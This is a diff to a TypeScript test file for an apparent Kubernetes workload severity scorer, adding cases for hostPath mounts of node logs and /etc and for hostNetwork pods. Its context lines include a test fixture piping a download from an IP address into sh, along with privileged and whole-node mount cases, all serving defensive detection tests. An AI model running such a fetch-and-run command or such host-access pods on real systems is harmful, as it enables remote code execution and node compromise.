@@ -25,6 +25,19 @@ const severityOf = (facts: Facts): Severity => judged(facts).severity;
 const image = 'alpine:3.20';
 const privileged = { containers: [{ name: 'main', image, securityContext: { privileged: true } }] };
 
+/** These paths of the node, all to read. */
+const mountsOf = (paths: readonly string[]): Facts =>
+  pod({
+    volumes: paths.map((path, at) => ({ name: `v${at}`, hostPath: { path } })),
+    containers: [
+      {
+        name: 'a',
+        image,
+        volumeMounts: paths.map((path, at) => ({ name: `v${at}`, mountPath: `/host${path}`, readOnly: true })),
+      },
+    ],
+  });
+
 const SEVERITIES: Record<string, [facts: Facts, severity: Severity]> = {
   'an ordinary CronJob': [blank, 'info'],
   'a bare image with shell text': [
@@ -33,6 +46,24 @@ const SEVERITIES: Record<string, [facts: Facts, severity: Severity]> = {
   ],
   'a download and nothing more': [script('curl -fsS https://example.com/health'), 'info'],
   'a download into an interpreter': [script('curl -s http://203.0.113.7/x | sh'), 'high'],
+  'the logs of the node, for a shipper': [
+    mountsOf(['/var/log', '/etc/machine-id', '/var/lib/docker/containers']),
+    'low',
+  ],
+  'the configuration of the node, to read': [mountsOf(['/etc']), 'low'],
+  'the logs of the node and its configuration': [mountsOf(['/var/log', '/etc']), 'medium'],
+  'the network of the node, with a floating tag and shell text': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'acme/aws:latest', command: ['sh', '-c', 'date'] }] }),
+    'low',
+  ],
+  'the network of the node, in a container that waits': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'alpine:latest', command: ['sleep', 'infinity'] }] }),
+    'medium',
+  ],
+  'the network of the node, for an image of which nothing is known': [
+    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'images.harbour-tools.io/sync:2' }] }),
+    'medium',
+  ],
   'a privileged container and nothing more': [secured({ privileged: true }), 'medium'],
   'every power over the node, and no act': [
     pod({ ...mounting('/'), hostPID: true, hostNetwork: true, ...privileged }),
